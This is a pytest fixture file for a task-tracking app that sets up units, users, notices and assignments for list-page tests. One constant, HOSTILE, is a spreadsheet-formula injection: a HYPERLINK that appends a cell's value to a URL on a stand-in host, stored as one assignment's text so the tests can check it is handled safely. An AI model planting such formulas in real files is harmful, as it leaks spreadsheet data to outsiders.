"""A small province for the list tests, dated around today: two unit accounts (one with a
commune below it), two published notices and a draft, work in every state, a pending extension
request, an open explanation request, and a task whose text is a spreadsheet formula."""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from datetime import date, timedelta

import pytest
from flask import Flask
from sqlmodel import Session, select

from tests.helpers import make_assignment, make_notice, make_unit, make_user
from tracker.accounts.models import User
from tracker.assignments.models import Assignment, ExtensionRequest
from tracker.i18n import local_today
from tracker.notices.models import Conclusion, Task
from tracker.rollups.models import ExplanationRequest
from tracker.units.models import Unit

HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
ROW_ID = re.compile(r'<tr data-id="(\d+)"')


def shown_ids(body: str) -> list[int]:
    """The ids of the rows a list page shows, in order."""
    return [int(found) for found in ROW_ID.findall(body)]


@dataclass
class World:
    today: date
    units: dict[str, Unit]
    notices: dict[str, Conclusion]
    work: dict[str, Assignment]
    users: dict[str, User]
    notice_of: dict[str, Conclusion] = field(default_factory=dict)

    def ids(self, *names: str) -> set[int]:
        return {self.work[name].id or 0 for name in names}


def _assign(
    session: Session,
    notice: Conclusion,
    unit: Unit,
    code: str,
    due: date | None,
    status: str = "not_started",
    percent: int = 0,
    completed_on: date | None = None,
    text: str | None = None,
) -> Assignment:
    assignment = make_assignment(
        session,
        notice,
        unit,
        code=code,
        due=due,
        status=status,
        completed_on=completed_on,
        text=text or f"Nhiệm vụ {code} của {unit.name}",
    )
    if percent and status != "done":
        assignment.percent = percent
        session.add(assignment)
        session.flush()
    return assignment


@pytest.fixture
def world(app: Flask, session: Session) -> World:
    with app.app_context():
        today = local_today()
    day = timedelta(days=1)
    beta = make_unit(session, "BETA", "Ban Beta")
    delta = make_unit(session, "DELTA", "Ban Delta", parent=beta)
    gamma = make_unit(session, "GAMMA", "Ban Gamma")
    secretary = make_user(session, "secretary", username="thuky")
    users = {
        "secretary": secretary,
        "head": make_user(session, "head", username="lanhdao"),
        "beta": make_user(session, "unit", unit=beta, username="beta"),
        "gamma": make_user(session, "unit", unit=gamma, username="gamma"),
    }
    n1 = make_notice(session, by=secretary, number="TB-01")
    n2 = make_notice(session, by=secretary, number="TB-02")
    draft = make_notice(session, published=False, by=secretary, number="TB-03")
    n1.period, n2.period = f"{today.year}-Q1", f"{today.year}-Q2"
    n1.title, n2.title, draft.title = "Về công tác B", "Về công tác A", "Về công tác C"
    n1.default_due, n2.default_due = today + 30 * day, today + 10 * day
    work = {
        "a1": _assign(session, n1, beta, "1", today - 10 * day, "in_progress", 40),
        "a2": _assign(session, n1, delta, "2", today + 3 * day),
        "a3": _assign(session, n2, beta, "1", today + 20 * day, "in_progress", 60),
        "a4": _assign(session, n2, beta, "2", today - 5 * day, "done", 100, today - 6 * day),
        "a5": _assign(session, n2, beta, "3", today + 60 * day, "cancelled"),
        "a6": _assign(session, n1, beta, "3", None),
        "b1": _assign(session, n1, gamma, "4", today - 2 * day, text=HOSTILE),
        "b2": _assign(session, n2, gamma, "4", today + 5 * day, "in_progress", 10),
    }
    _assign(session, draft, beta, "1", today - 1 * day, text="Việc trong bản nháp")
    session.add(
        ExtensionRequest(
            assignment_id=work["a3"].id,
            requested_by_id=users["beta"].id,
            requested_due=today + 40 * day,
            reason="Chờ số liệu",
        )
    )
    session.add(
        ExplanationRequest(
            assignment_id=work["a1"].id,
            message="Vì sao chậm?",
            requested_by_id=users["head"].id,
        )
    )
    session.add_all([n1, n2, draft])
    session.commit()
    tasks_of_n1 = set(session.exec(select(Task.id).where(Task.conclusion_id == n1.id)).all())
    return World(
        today=today,
        units={"beta": beta, "delta": delta, "gamma": gamma},
        notices={"n1": n1, "n2": n2, "draft": draft},
        work=work,
        users=users,
        notice_of={name: n1 if work[name].task_id in tasks_of_n1 else n2 for name in work},
    )
